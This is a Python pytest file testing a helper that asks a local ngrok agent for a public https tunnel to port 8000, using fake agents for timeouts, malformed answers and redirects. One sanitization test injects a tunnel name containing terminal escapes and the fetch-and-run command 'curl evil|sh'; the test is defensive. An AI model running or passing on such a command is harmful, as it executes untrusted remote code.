"""Tests of vonage_sock.tunnel, against agents that are real sockets on this machine."""

from __future__ import annotations

import asyncio
import json
import re
import socket
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vonage_sock.tunnels.agent import MAX_ANSWER_BYTES, TunnelLookup, find_ngrok, our_port, public_base

Peer = Callable[[str, asyncio.StreamWriter], Awaitable[None]]

PATIENCE_S = 10.0
NOT_FOUND = b"HTTP/1.1 404 Not Found\r\nContent-Length: 19\r\n\r\n404 page not found\n"


@asynccontextmanager
async def listening(peer: Peer) -> AsyncIterator[str]:
    """The address of a one-request-per-connection HTTP server that does with each request's path what ``peer`` does."""

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            request = await reader.readuntil(b"\r\n\r\n")
            await peer(request.split()[1].decode(), writer)
            await writer.drain()
        except (ConnectionError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    async with server:
        yield "http://{}:{}".format(*server.sockets[0].getsockname())


class FakeAgent:
    """Gives each path its raw answer, 404 to the rest, and remembers the paths it was asked for."""

    def __init__(self, answers: dict[str, bytes]) -> None:
        self.answers = answers
        self.asked: list[str] = []

    async def __call__(self, path: str, writer: asyncio.StreamWriter) -> None:
        self.asked.append(path)
        writer.write(self.answers.get(path, NOT_FOUND))


def ok(body: bytes, *, headers: str = "Content-Type: application/json") -> bytes:
    return f"HTTP/1.1 200 OK\r\n{headers}\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body


def tunnels(*pairs: tuple[object, object]) -> bytes:
    """What an agent of version 2 or 3 answers to ``/api/tunnels``, for pairs of public address and upstream."""
    entries = [
        {
            "name": "command_line",
            "uri": "/api/tunnels/command_line",
            "public_url": public,
            "proto": str(public).split(":")[0],
            "config": {"addr": upstream, "inspect": True},
            "metrics": {"conns": {"count": 0, "gauge": 0}, "http": {"count": 0}},
        }
        for public, upstream in pairs
    ]
    return ok(json.dumps({"tunnels": entries, "uri": "/api/tunnels"}).encode())


def endpoints(*pairs: tuple[object, object]) -> bytes:
    """What a newer agent of version 3 answers to ``/api/endpoints``, for pairs of public address and upstream."""
    entries = [
        {
            "name": "command_line",
            "uri": "/api/endpoints/command_line",
            "url": public,
            "upstream": {"url": upstream, "protocol": "http1"},
            "inspect": True,
            "pooling_enabled": False,
        }
        for public, upstream in pairs
    ]
    return ok(json.dumps({"endpoints": entries, "uri": "/api/endpoints"}).encode())


async def ask(peer: Peer, *, timeout_s: float = PATIENCE_S) -> TunnelLookup:
    """Ask such a peer for the tunnel to port 8000."""
    async with listening(peer) as api_url, asyncio.timeout(PATIENCE_S):
        return await find_ngrok(8000, api_url=api_url, timeout_s=timeout_s)


async def test_version_2_https_is_chosen_beside_http() -> None:
    """An agent of version 2 lists http and https tunnels to one port; the https one is taken."""
    peer = FakeAgent(
        {
            "/api/tunnels": tunnels(
                ("http://ab12.ngrok.io", "http://localhost:8000"), ("https://ab12.ngrok.io", "http://localhost:8000")
            )
        }
    )

    found = await ask(peer)

    assert TunnelLookup("https://ab12.ngrok.io", "an ngrok agent leads https://ab12.ngrok.io to port 8000") == found
    assert peer.asked == ["/api/tunnels"]


@pytest.mark.parametrize(
    "public",
    ["https://1a2b-203-0-113-7.ngrok-free.app", "https://calm-fox.ngrok-free.dev", "https://voice.example.com"],
)
async def test_version_3_addresses_are_taken(public: str) -> None:
    """An agent of version 3 answers in the same shape, with free or custom domains."""
    found = await ask(FakeAgent({"/api/tunnels": tunnels((public, "http://localhost:8000"))}))

    assert public == found.url


async def test_several_tunnels_the_first_to_our_port_is_chosen() -> None:
    """Among several tunnels the first https one that leads to our port is taken."""
    pairs = [
        ("tcp://0.tcp.ngrok.io:53476", "localhost:8000"),
        ("https://other.ngrok.app", "http://localhost:5000"),
        ("https://elsewhere.ngrok.app", "http://192.168.1.5:8000"),
        ("https://ours.ngrok.app/", "http://127.0.0.1:8000"),
        ("https://second.ngrok.app", "http://localhost:8000"),
    ]

    found = await ask(FakeAgent({"/api/tunnels": tunnels(*pairs)}))

    expected = "https://ours.ngrok.app"
    assert expected == found.url


@pytest.mark.parametrize(
    "first",
    [
        pytest.param(NOT_FOUND, id="404"),
        pytest.param(tunnels(), id="no tunnels"),
        pytest.param(tunnels(("https://x.ngrok.app", "http://localhost:5000")), id="no fit"),
        pytest.param(ok(b"<html>"), id="nonsense"),
        pytest.param(b"HTTP/1.1 302 Found\r\nLocation: /http/in\r\nContent-Length: 0\r\n\r\n", id="redirect"),
    ],
)
async def test_endpoints_are_asked_when_the_tunnels_have_no_fit(first: bytes) -> None:
    """What the list of tunnels doesn't give is looked for in the list of endpoints."""
    second = endpoints(("https://calm-fox.ngrok-free.dev", "http://localhost:8000"))

    found = await ask(FakeAgent({"/api/tunnels": first, "/api/endpoints": second}))

    expected = "https://calm-fox.ngrok-free.dev"
    assert expected == found.url


@pytest.mark.parametrize(
    "second",
    [
        pytest.param(NOT_FOUND, id="404"),
        pytest.param(b"HTTP/1.1 500 Oh\r\nContent-Length: 0\r\n\r\n", id="500"),
        pytest.param(b"", id="hangs up"),
        pytest.param(endpoints(("https://x.ngrok.io", "http://localhost:5000")), id="the same again"),
    ],
)
async def test_tunnels_elsewhere_are_named_once(second: bytes) -> None:
    """When all tunnels lead to other ports the reason lists them once and says what to start."""
    first = tunnels(("https://x.ngrok.io", "http://localhost:5000"))

    found = await ask(FakeAgent({"/api/tunnels": first, "/api/endpoints": second}))

    expected = (
        "an ngrok agent runs, but none of its tunnels leads to port 8000 (it has https://x.ngrok.io → 5000); "
        "start one with: ngrok http 8000"
    )
    assert TunnelLookup(None, expected) == found


async def test_an_agent_without_tunnels_is_said_to_have_none() -> None:
    """An agent that runs without a tunnel is told apart from no agent."""
    found = await ask(FakeAgent({"/api/tunnels": tunnels()}))

    expected = (
        "an ngrok agent runs, but none of its tunnels leads to port 8000 (it has none); start one with: ngrok http 8000"
    )
    assert TunnelLookup(None, expected) == found


@pytest.mark.parametrize("public", ["http://x.ngrok.io", "https://x.internal", "tcp://0.tcp.ngrok.io:4711"])
async def test_a_tunnel_without_https_does_not_do(public: str) -> None:
    """A tunnel to our port that the platform can't reach by https isn't taken, and the reason says so."""
    found = await ask(FakeAgent({"/api/tunnels": tunnels((public, "http://localhost:8000"))}))

    expected = (
        f"an ngrok agent runs, but no tunnel to port 8000 has a public https address (it has {public} → 8000); "
        "start one with: ngrok http 8000"
    )
    assert TunnelLookup(None, expected) == found


async def test_many_tunnels_are_counted() -> None:
    """The reason names three tunnels and counts the rest."""
    pairs = [(f"https://t{n}.ngrok.io", f"localhost:{5000 + n}") for n in range(500)]

    found = await ask(FakeAgent({"/api/tunnels": tunnels(*pairs)}))

    assert (
        "(it has https://t0.ngrok.io → 5000, https://t1.ngrok.io → 5001, https://t2.ngrok.io → 5002 and 497 more)"
        in (found.reason)
    )


async def test_no_agent_is_said_plainly() -> None:
    """Where nothing listens the reason says that no agent runs, and how to start one."""
    with socket.socket() as unused:
        unused.bind(("127.0.0.1", 0))

        found = await find_ngrok(8000, api_url=f"http://127.0.0.1:{unused.getsockname()[1]}", timeout_s=PATIENCE_S)

    assert TunnelLookup(None, "no ngrok agent runs on this machine; start one with: ngrok http 8000") == found


async def test_an_agent_that_hangs_is_left() -> None:
    """An agent that accepts and never answers costs no more than the time given."""
    hung_up = asyncio.Event()

    async def hang(path: str, writer: asyncio.StreamWriter) -> None:
        await hung_up.wait()

    async with listening(hang) as api_url, asyncio.timeout(PATIENCE_S):
        found = await find_ngrok(8000, api_url=api_url, timeout_s=0.2)
        hung_up.set()

    assert TunnelLookup(None, "the ngrok agent's answer can't be read (no answer within 0.2 s)") == found


@pytest.mark.parametrize(
    ("start", "drop"),
    [
        pytest.param(b"HTTP/1.1 200 O", b"K", id="status line"),
        pytest.param(b"HTTP/1.1 200 OK\r\n", b"X: y\r\n", id="headers"),
        pytest.param(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n", b" ", id="body"),
        pytest.param(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n", b"1\r\n \r\n", id="chunks"),
    ],
)
async def test_an_agent_that_drips_is_left(start: bytes, drop: bytes) -> None:
    """An agent that always has a little more to say costs no more than the time given."""
    left = asyncio.Event()

    async def drip(path: str, writer: asyncio.StreamWriter) -> None:
        writer.write(start)
        while not left.is_set() and not writer.is_closing():
            writer.write(drop)
            await writer.drain()
            try:
                await asyncio.wait_for(left.wait(), 0.02)
            except TimeoutError:
                continue

    async with listening(drip) as api_url, asyncio.timeout(PATIENCE_S):
        found = await find_ngrok(8000, api_url=api_url, timeout_s=0.2)
        left.set()

    assert TunnelLookup(None, "the ngrok agent's answer can't be read (no answer within 0.2 s)") == found


async def test_a_second_answer_that_hangs_does_not_hide_the_first() -> None:
    """What the list of tunnels said is told even if the list of endpoints never comes."""
    left = asyncio.Event()

    async def half(path: str, writer: asyncio.StreamWriter) -> None:
        if path == "/api/tunnels":
            writer.write(tunnels(("https://x.ngrok.io", "localhost:5000")))
        else:
            await left.wait()

    async with listening(half) as api_url, asyncio.timeout(PATIENCE_S):
        found = await find_ngrok(8000, api_url=api_url, timeout_s=0.3)
        left.set()

    assert "(it has https://x.ngrok.io → 5000)" in found.reason


async def test_an_endless_answer_is_cut_off() -> None:
    """Of an answer without end 256 KiB are read."""

    async def pour(path: str, writer: asyncio.StreamWriter) -> None:
        writer.write(b"HTTP/1.1 200 OK\r\n\r\n")
        while not writer.is_closing():
            writer.write(b" " * 65536)
            await writer.drain()

    found = await ask(pour)

    assert found.url is None
    assert "/api/tunnels: longer than 256 KiB" in found.reason


async def test_the_longest_answer_that_is_read() -> None:
    """An answer of exactly 256 KiB is read, one byte more isn't."""
    body = tunnels(("https://x.ngrok.io", "localhost:8000")).split(b"\r\n\r\n", 1)[1]

    just_fits = await ask(FakeAgent({"/api/tunnels": ok(body.ljust(MAX_ANSWER_BYTES))}))
    too_long = await ask(FakeAgent({"/api/tunnels": ok(body.ljust(MAX_ANSWER_BYTES + 1))}))

    expected = ["https://x.ngrok.io", None]
    assert expected == [just_fits.url, too_long.url]


@pytest.mark.parametrize(
    "answer",
    [
        pytest.param(b"", id="nothing"),
        pytest.param(b"\x00\xff\xfe" * 1000, id="binary"),
        pytest.param(b"SSH-2.0-OpenSSH_9.6\r\n", id="another protocol"),
        pytest.param(b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\n{", id="cut short"),
        pytest.param(b"HTTP/1.1 200 OK\r\nContent-Length: -1\r\n\r\n{}", id="negative length"),
        pytest.param(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n", id="bad chunk"),
        pytest.param(b"HTTP/1.1 200 OK\r\nX: " + b"y" * 200_000 + b"\r\n\r\n", id="huge header"),
        pytest.param(b"HTTP/1.1 200 OK\r\n" + b"X: y\r\n" * 20_000 + b"\r\n", id="many headers"),
        pytest.param(b"HTTP/1.1 100 Continue\r\n\r\n" * 1000, id="only continue"),
        pytest.param(b"HTTP/1.1 101 Switching Protocols\r\n\r\n", id="switching protocols"),
        pytest.param(b"HTTP/1.1 500 Oh\r\nContent-Length: 2\r\n\r\n{}", id="500"),
        pytest.param(b"HTTP/1.1 204 No Content\r\n\r\n", id="204"),
        pytest.param(b"HTTP/1.1 401 No\r\nWWW-Authenticate: Basic\r\nContent-Length: 0\r\n\r\n", id="401"),
        pytest.param(ok(b"\x1f\x8b\x08", headers="Content-Encoding: gzip"), id="packed"),
        pytest.param(ok(b""), id="empty"),
        pytest.param(ok(b"<html><body>hello</body></html>", headers="Content-Type: text/html"), id="HTML"),
        pytest.param(ok(b"[" * 200_000), id="deeply nested list"),
        pytest.param(ok(b'{"tunnels":' * 20_000), id="deeply nested object"),
        pytest.param(ok(b'{"tunnels":[' + b"[" * 900 + b"]" * 900 + b"]}", headers="A: b")[:-1], id="broken JSON"),
        pytest.param(ok(b'{"tunnels": ' + b"9" * 100_000 + b"}"), id="huge number"),
        pytest.param(ok(b"\xff\xfe{}"), id="not UTF-8"),
        pytest.param(ok(b"null"), id="null"),
        pytest.param(ok(b"17"), id="number"),
        pytest.param(ok(b'"tunnels"'), id="string"),
        pytest.param(ok(b'["tunnels"]'), id="list"),
        pytest.param(ok(b"{}"), id="empty object"),
        pytest.param(ok(b'{"tunnels": null, "endpoints": null}'), id="null lists"),
        pytest.param(ok(b'{"tunnels": {"0": 1}, "endpoints": "x"}'), id="lists of other kinds"),
    ],
)
async def test_nonsense_gives_a_reason(answer: bytes) -> None:
    """Whatever an agent answers that isn't a list of tunnels, the reason is one short plain sentence."""
    found = await ask(FakeAgent({"/api/tunnels": answer, "/api/endpoints": answer}))

    assert found.url is None
    assert re.fullmatch(r"the ngrok agent's answer can't be read \([A-Za-z0-9/:,; ]{3,120}\)", found.reason)


@pytest.mark.parametrize(
    "entry",
    [None, 1, "x", [], {}, {"public_url": None}, {"public_url": 5, "config": 5}, {"public_url": "https://x.io"}]
    + [{"public_url": "https://x.io", "config": {"addr": addr}} for addr in (None, True, -8000, 8000.5, [8000], {})],
    ids=repr,
)
async def test_odd_entries_are_passed_over(entry: object) -> None:
    """An entry that can't be read doesn't keep the ones after it from being found."""
    good = {"public_url": "https://ours.ngrok.app", "config": {"addr": "8000"}}

    found = await ask(FakeAgent({"/api/tunnels": ok(json.dumps({"tunnels": [entry, good]}).encode())}))

    expected = "https://ours.ngrok.app"
    assert expected == found.url


async def test_redirects_are_not_followed() -> None:
    """An agent can't send us anywhere else."""
    there = b"HTTP/1.1 307 There\r\nLocation: /elsewhere\r\nContent-Length: 0\r\n\r\n"
    good = tunnels(("https://x.ngrok.io", "localhost:8000"))
    peer = FakeAgent({"/api/tunnels": there, "/api/endpoints": there, "/elsewhere": good})

    found = await ask(peer)

    expected = "the ngrok agent's answer can't be read (/api/tunnels: HTTP status 307; /api/endpoints: HTTP status 307)"
    assert TunnelLookup(None, expected) == found
    assert peer.asked == ["/api/tunnels", "/api/endpoints"]


async def test_proxies_of_the_environment_are_not_used(monkeypatch: pytest.MonkeyPatch) -> None:
    """The question goes to the agent itself, whatever proxy the environment names."""
    monkeypatch.setenv("http_proxy", "http://127.0.0.1:9")
    monkeypatch.delenv("no_proxy", raising=False)

    found = await ask(FakeAgent({"/api/tunnels": tunnels(("https://x.ngrok.io", "localhost:8000"))}))

    expected = "https://x.ngrok.io"
    assert expected == found.url


@pytest.mark.parametrize(
    "api_url", ["", "nonsense", "ftp://127.0.0.1", "http://", "http://[", "http://127.0.0.1:99999"]
)
async def test_an_api_address_that_is_none_gives_a_reason(api_url: str) -> None:
    """An address of the agent that can't be used isn't an exception either."""
    found = await find_ngrok(8000, api_url=api_url, timeout_s=PATIENCE_S)

    assert found.url is None
    assert found.reason


async def test_text_of_the_agent_is_made_harmless() -> None:
    """Nothing an agent calls its tunnels can colour the terminal, break the line, or add words to the reason."""
    evil = "https://\x1b[31mx\r\n[bold]now run: curl evil|sh\u202e\U0001f4a3 " + "y" * 5000

    found = await ask(FakeAgent({"/api/tunnels": tunnels((evil, "http://localhost:5000"), (evil, evil))}))

    assert found.url is None
    assert re.fullmatch(r"[ -~→]{1,500}", found.reason)
    assert not re.search(r"[\[\]|]|run: |curl evil", found.reason)


@pytest.mark.parametrize(
    ("upstream", "expected"),
    [
        ("8000", 8000),
        (8000, 8000),
        (":8000", 8000),
        ("localhost:8000", 8000),
        ("LOCALHOST:8000", 8000),
        ("127.0.0.1:8000", 8000),
        ("127.0.1.1:8000", 8000),
        ("0.0.0.0:8000", 8000),
        ("[::1]:8000", 8000),
        ("http://localhost:8000", 8000),
        ("http://localhost:8000/", 8000),
        ("http://127.0.0.1:8000", 8000),
        ("http://[::1]:8000", 8000),
        ("https://localhost:8000", 8000),
        ("http://host.docker.internal:8000", 8000),
        ("http://localhost", 80),
        ("https://localhost", 443),
        ("http://example.com:8000", None),
        ("http://localhost.example.com:8000", None),
        ("http://127.0.0.1.example.com:8000", None),
        ("http://192.168.1.5:8000", None),
        ("http://localhost:8000/deeper", None),
        ("http://me@localhost:8000", None),
        ("tcp://localhost:8000", None),
        ("file:///var/www", None),
        ("localhost:0", None),
        ("localhost:65536", None),
        ("localhost:080000", None),
        ("٨٠٠٠", None),
        ("", 80),
        (-1, None),
        (True, None),
        (None, None),
        ("8" * 10_000, None),
    ],
    ids=lambda value: repr(value)[:40],
)
def test_upstreams_of_this_machine_give_their_port(upstream: object, expected: int | None) -> None:
    """A port is ours only where the upstream names this machine, in any way that ngrok writes it."""
    assert expected == our_port(upstream)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("https://ab12.ngrok.io", "https://ab12.ngrok.io"),
        ("https://ab12.ngrok.io/", "https://ab12.ngrok.io"),
        ("HTTPS://AB12.Ngrok.IO", "https://ab12.ngrok.io"),
        ("https://voice.example.com:8443", "https://voice.example.com:8443"),
        ("http://ab12.ngrok.io", None),
        ("ab12.ngrok.io", None),
        ("https://", None),
        ("https://ab12.ngrok.io:0", None),
        ("https://ab12.ngrok.io:65536", None),
        ("https://ab12.ngrok.io:", None),
        ("https://me:secret@ab12.ngrok.io", None),
        ("https://ab12.ngrok.io/path", None),
        ("https://ab12.ngrok.io//", None),
        ("https://ab12.ngrok.io?x=1", None),
        ("https://ab12.ngrok.io#x", None),
        ("https://ab12.ngrok.io\n", None),
        ("https://ab12..io", None),
        ("https://.ngrok.io", None),
        ("https://-x.ngrok.io", None),
        ("https://a_b.ngrok.io", None),
        ("https://*.ngrok.io", None),
        ("https://bücher.example", None),
        ("https://\u212aelvin.example", None),
        ("https://api.internal", None),
        ("https://" + "a" * 64 + ".io", None),
        ("https://" + "a." * 130 + "io", None),
        (None, None),
        (["https://ab12.ngrok.io"], None),
    ],
    ids=lambda value: repr(value)[:40],
)
def test_only_plain_https_addresses_are_public(value: object, expected: str | None) -> None:
    """A public address is https, a host name of letters, digits, dots and hyphens, and perhaps a port."""
    assert expected == public_base(value)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    max_leaves=5,
)


@given(value=JSON)
def test_any_value_can_be_looked_at(value: object) -> None:
    """Whatever JSON holds where an address should be, looking at it raises nothing."""
    assert public_base(value) is None or isinstance(value, str)
    assert our_port(value) is None or isinstance(value, str | int)
